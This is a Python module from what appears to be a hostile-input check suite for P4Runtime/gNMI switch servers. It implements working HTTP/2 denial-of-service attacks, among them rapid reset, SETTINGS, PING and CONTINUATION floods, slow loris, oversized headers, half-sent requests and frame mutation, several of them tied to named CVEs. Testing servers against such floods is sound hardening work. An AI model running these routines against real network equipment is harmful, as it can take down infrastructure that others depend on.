# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 under P4Runtime and gNMI: frames that no gRPC library sends. What is counted is what the server closed."""

import time

from accesspoint.checks.hostile.attack import Target, attack
from accesspoint.checks.hostile.tools import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    connect,
    frame,
    head,
    idle,
    mutate,
    pour,
    together,
)

READ, WRITE = "/p4.v1.P4Runtime/Read", "/p4.v1.P4Runtime/Write"
BEGIN = PREFACE + frame(SETTINGS)
EVERYTHING = b"\0\0\0\0\x06\x08\x01\x12\x02\x12\x00"  # a message: Read of all table entries


@attack("switch")
def idle_connections(target: Target) -> None:
    """400 connections that say nothing"""
    idle(target, 400)


@attack("switch")
def slow_loris(target: Target) -> None:
    """400 connections that begin a request and send a byte now and then"""
    idle(
        target,
        400,
        begin=BEGIN + frame(HEADERS, END_HEADERS, 1, head(WRITE)) + frame(DATA, 0, 1, b"\0\3\0\0\0"),
        drip=b"\0",
    )


@attack("switch")
def rapid_reset(target: Target) -> None:
    """Requests that are taken back at once, without end (CVE-2023-44487)"""

    def one() -> None:
        while target.running():
            try:
                with connect(target) as stream:
                    stream.sendall(BEGIN)
                    for number in range(1, 1 << 30, 2 * 64):
                        stream.sendall(
                            b"".join(
                                frame(HEADERS, END_HEADERS, n, block)
                                + frame(DATA, END_STREAM, n, EVERYTHING)
                                + frame(RST_STREAM, 0, n, b"\0\0\0\x08")
                                for n in range(number, number + 128, 2)
                            )
                        )
                        if not target.running():
                            return
            except TimeoutError:
                return
            except OSError as error:
                target.refused("closed", type(error).__name__)
                time.sleep(0.01)

    block = head(READ)
    together(*[one] * 4)


@attack("switch")
def settings_flood(target: Target) -> None:
    """SETTINGS without end, whose acknowledgements nobody reads (CVE-2019-9515)"""
    pour(target, BEGIN, frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 100, reads=False)


@attack("switch")
def ping_flood(target: Target) -> None:
    """PINGs without end, whose answers nobody reads (CVE-2019-9512)"""
    pour(target, BEGIN, frame(PING, 0, 0, bytes(8)) * 100, reads=False)


@attack("switch", short=True)
def continuation_flood(target: Target) -> None:
    """A header block that never ends (CVE-2024-27316)"""
    part = frame(CONTINUATION, 0, 1, b"\0\1a\x7f\x81\x7e" + b"b" * 16_000)
    pour(target, BEGIN + frame(HEADERS, 0, 1, head(READ)), part)


@attack("switch")
def empty_frames(target: Target) -> None:
    """Empty DATA, PRIORITY and WINDOW_UPDATE frames without end (CVE-2019-9518)"""
    begin = BEGIN + frame(HEADERS, END_HEADERS, 1, head(WRITE))
    more = frame(DATA, 0, 1) + frame(PRIORITY, 0, 3, b"\0\0\0\1\0") + frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")
    pour(target, begin, more * 100)


@attack("switch")
def large_headers(target: Target) -> None:
    """Requests with 15 kB of headers each, on streams that stay open"""

    def one() -> None:
        block = head(WRITE, *[(f"x-{number}", "y" * 100) for number in range(140)])
        while target.running():
            try:
                with connect(target) as stream:
                    stream.sendall(BEGIN)
                    for number in range(1, 1 << 20, 2):
                        stream.sendall(frame(HEADERS, END_HEADERS, number, block))
                        if not target.running():
                            return
            except TimeoutError:
                return
            except OSError as error:
                target.refused("closed", type(error).__name__)
                time.sleep(0.01)

    together(*[one] * 4)


@attack("switch", seconds=6)
def half_requests(target: Target) -> None:
    """Thousands of requests of 60 MB of which all but the end is sent, as far as the server gives room"""

    def one() -> None:
        try:
            with connect(target) as stream:
                stream.sendall(BEGIN)
                block = head(WRITE)
                prefix = b"\0" + (60 << 20).to_bytes(4, "big")
                for number in range(1, 2 * 120, 2):
                    stream.sendall(frame(HEADERS, END_HEADERS, number, block) + frame(DATA, 0, number, prefix))
                rooms = {0: 65535 - 5 * 120} | dict.fromkeys(range(1, 2 * 120, 2), 65535 - 5)
                data = b""
                stream.settimeout(0.05)
                sent = 0
                while target.running():
                    for number in [n for n in rooms if n]:
                        size = min(16_384, rooms[0], rooms[number])
                        if size > 0:
                            stream.settimeout(target.left())
                            stream.sendall(frame(DATA, 0, number, bytes(size)))
                            rooms[0] -= size
                            rooms[number] -= size
                            sent += size
                    stream.settimeout(0.02)
                    try:
                        more = stream.recv(1 << 16)
                        if not more:
                            target.refused("closed")
                            return
                        data += more
                    except TimeoutError:
                        continue
                    while len(data) >= 9 and len(data) >= 9 + (length := int.from_bytes(data[:3], "big")):
                        kind, number = data[3], int.from_bytes(data[5:9], "big")
                        if kind == WINDOW_UPDATE and number in rooms:
                            rooms[number] += int.from_bytes(data[9:13], "big")
                        elif kind == RST_STREAM:
                            target.refused(f"RST_STREAM {int.from_bytes(data[9:13], 'big')}")
                            rooms.pop(number, None)
                        elif kind == HEADERS and number in rooms and number:
                            target.refused("answered early")
                            rooms.pop(number)
                        data = data[9 + length :]
        except OSError as error:
            target.refused("closed", type(error).__name__)

    together(*[one] * 32)


@attack("switch")
def http2_mutations(target: Target) -> None:
    """Random mutations of valid HTTP/2, and bytes that are none"""
    request = frame(HEADERS, END_HEADERS, 1, head(READ)) + frame(DATA, END_STREAM, 1, EVERYTHING)
    valid = BEGIN + frame(PING, 0, 0, bytes(8)) + request + frame(WINDOW_UPDATE, 0, 0, b"\0\0\xff\xff")
    while target.running():
        try:
            with connect(target) as stream:
                stream.sendall(mutate(valid, target.random))
                stream.settimeout(0.02)
                if stream.recv(65536) == b"":
                    target.refused("closed")
        except TimeoutError:
            continue
        except OSError as error:
            target.refused("closed", type(error).__name__)
